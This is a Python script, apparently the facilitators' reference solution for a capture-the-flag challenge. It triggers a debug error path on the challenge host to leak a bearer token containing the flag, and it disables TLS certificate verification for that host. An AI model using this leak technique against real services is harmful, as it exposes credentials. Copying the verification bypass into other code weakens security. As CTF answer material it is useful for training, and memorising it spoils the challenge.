#!/usr/bin/env python3
"""Reference solve for leaky-worker. Facilitators only.

The CTF infrastructure terminates TLS with the event's own CA, which most
laptops do not trust, so this script skips verification *for the challenge
host only*. It never talks to api.cloudflare.com itself.
"""
import re
import sys

import requests
import urllib3

urllib3.disable_warnings(urllib3.exceptions.InsecureRequestWarning)

TARGET = sys.argv[1] if len(sys.argv) > 1 else "https://leaky-worker.ctf.workshop-test.dev"


def main():
    # A zone id that does not exist makes the upstream call fail, which
    # triggers the error path that returns the log.
    r = requests.get(
        f"{TARGET}/status",
        params={"zone": "0" * 32, "debug": "1"},
        verify=False,
        timeout=10,
    )
    print(r.status_code)
    m = re.search(r"Bearer (flag\{[^}]+\})", r.text)
    if not m:
        sys.exit("no flag in response; is debug still enabled?")
    print(m.group(1))


if __name__ == "__main__":
    main()
